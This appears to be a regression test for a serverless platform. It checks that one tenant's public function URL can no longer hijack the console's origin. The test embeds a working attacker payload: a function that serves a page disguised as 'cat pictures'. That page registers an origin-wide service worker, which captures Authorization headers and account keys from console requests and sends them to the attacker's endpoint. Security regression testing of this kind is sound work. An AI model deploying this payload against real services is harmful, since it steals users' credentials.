import { afterAll, describe, expect, it } from 'vitest';
import { newTenant } from '../helpers/app.js';
import { call, deploy, makeZip, until, useFunctionsApp } from '../helpers/functions.js';
import { buildConsoleFirst, launchChromium } from '../helpers/browser.js';

// Function URLs (/url/<id>/) are served on the api's own origin, the console's. Until a review on
// 2026-12-07, another tenant's public function URL could run script in that origin: here it registers
// a service worker for the whole origin (Service-Worker-Allowed: /), which then saw every request the
// console made, Authorization header and account key included, and handed them to the attacker's
// function (whose own log kept them). Function URL answers are now sandboxed (CSP `sandbox`, an
// origin of their own) and may not set Service-Worker-Allowed.

buildConsoleFirst();
const t = useFunctionsApp();

const ATTACKER = `
const SW = \`
self.addEventListener('install', (e) => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  const auth = e.request.headers.get('authorization');
  if (auth) fetch(self.registration.scope + 'url/' + URL_ID + '/steal?k=' + encodeURIComponent(auth));
});\`;
exports.handler = async (event) => {
  if (event.rawPath.endsWith('/sw.js')) {
    const id = event.queryStringParameters.id;
    return { statusCode: 200, headers: { 'content-type': 'text/javascript', 'service-worker-allowed': '/' },
      body: 'const URL_ID = ' + JSON.stringify(id) + ';' + SW };
  }
  if (event.rawPath.endsWith('/steal')) {
    console.log('STOLEN ' + event.queryStringParameters.k);
    return { statusCode: 204 };
  }
  return { statusCode: 200, headers: { 'content-type': 'text/html' }, body:
    '<!doctype html><title>cat pictures</title><script>' +
    "const id = location.pathname.split('/')[2];" +
    "navigator.serviceWorker.register('sw.js?id=' + id, { scope: '/' }).then(() => navigator.serviceWorker.ready)" +
    ".then(() => { document.title = 'ready'; }, (err) => { document.title = 'failed ' + err; });" +
    '</script>' };
};
`;

let closeBrowser: (() => Promise<void>) | undefined;

afterAll(async () => closeBrowser?.());

describe('the console origin', () => {
  it("another tenant's function URL cannot run script in the console's origin and read a signed-in key", async () => {
    const attacker = await newTenant(t.app);
    const victim = await newTenant(t.app);
    await deploy(t.base, attacker.accountKey, 'cats', makeZip([{ name: 'index.js', data: ATTACKER }]));
    const url = await call(t.base, attacker.accountKey, 'PUT', '/v1/functions/cats/url', { authType: 'NONE' });
    expect(url.status, url.text).toBe(200);
    const catsUrl: string = url.json.url;
    expect(new URL(catsUrl).origin).toBe(new URL(`${t.base}/console`).origin);

    const browser = await launchChromium('tally-console-origin');
    closeBrowser = browser.close;
    const context = browser.context;
    const page = context.pages()[0] ?? (await context.newPage());
    // The victim opens a link to the attacker's page once.
    await page.goto(catsUrl);
    await page.waitForFunction("document.title !== 'cat pictures'", null, { timeout: 5_000 }).catch(() => undefined);
    const title = await page.title();

    // Later, in the same browser, the victim signs in to the console.
    await page.goto(`${t.base}/console`);
    await page.getByLabel('Account key').fill(victim.accountKey);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { level: 1, name: 'Functions' }).waitFor();

    // Did the attacker's function receive the victim's key?
    const stolen = await until(
      'the attacker function log',
      async () => {
        const r = await call(t.base, attacker.accountKey, 'GET', '/v1/functions/cats/logs?filter=STOLEN');
        return r.status === 200 && (r.json.events as { message: string }[]).length > 0 ? r.json.events : null;
      },
      5_000,
    ).catch(() => []);
    const leaked = (stolen as { message: string }[]).some((e) => e.message.includes(victim.accountKey));
    expect({ leaked, serviceWorkerReady: title === 'ready' }).toEqual({ leaked: false, serviceWorkerReady: false });
  }, 120_000);
});
